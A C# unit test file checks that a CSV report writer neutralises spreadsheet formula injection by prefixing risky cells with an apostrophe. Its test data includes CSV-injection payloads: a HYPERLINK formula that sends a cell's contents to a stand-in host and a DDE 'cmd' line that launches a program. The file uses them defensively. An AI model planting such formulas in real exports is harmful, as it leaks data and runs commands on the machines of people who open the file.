using N2fSync.Reports;

namespace N2fSync.Tests.Reports;

/// <summary>
/// Keys and messages in the CSV report come from Agresso and N2F: a cell a spreadsheet would run as a formula opens as
/// text instead (OWASP CSV injection), and every other cell is written exactly.
/// </summary>
public sealed class CsvReportWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Details\")", "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Details\"\")\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("+32 2 555 01 01", "'+32 2 555 01 01")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void A_cell_that_would_run_as_a_formula_starts_with_an_apostrophe(string value, string written) =>
        Assert.Equal(written, CsvReportWriter.Quote(value));

    [Theory]
    [InlineData("chloe.o'neil@example.be", "chloe.o'neil@example.be")]
    [InlineData("Update", "Update")]
    [InlineData("culture 'fr-BE' = ok", "culture 'fr-BE' = ok")]
    [InlineData("2026-12-05T07:00:00Z", "2026-12-05T07:00:00Z")]
    [InlineData("Péage, parking", "\"Péage, parking\"")]
    [InlineData("", "")]
    public void Every_other_cell_is_written_exactly(string value, string written) =>
        Assert.Equal(written, CsvReportWriter.Quote(value));
}
